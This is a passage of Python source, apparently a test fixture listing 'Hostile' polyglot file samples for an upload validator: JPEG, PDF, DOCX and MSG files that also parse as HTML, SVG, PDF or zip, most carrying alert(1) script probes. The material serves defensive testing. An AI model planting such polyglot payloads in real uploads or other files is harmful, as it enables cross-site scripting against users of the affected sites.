    Hostile("polyglot", "jpeghtml.jpg", jpeg(comment=b"<script>alert(1)</script>"), "is also HTML"),
    Hostile(
        "polyglot",
        "pdfhtml.pdf",
        raw_pdf(prefix=b"%<html><body><script>alert(1)</script></body></html>\n"),
        "is also HTML",
    ),
    Hostile(
        "polyglot",
        "pdfsvg.pdf",
        raw_pdf(prefix=b'%<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'),
        "is also an SVG image",
    ),
    Hostile("polyglot", "docxpdf.docx", zip_of([("a.pdf", PDF), *_docx_parts()], stored=("a.pdf",)), "is also a PDF"),
    Hostile("polyglot", "msgzip.msg", MSG + zip_of([("payload.js", b"alert(1)")]), "is also a zip archive"),
]

HOSTILE: list[Hostile] = NAMES + TYPES + STRUCTURE + ACTIVE + POLYGLOTS
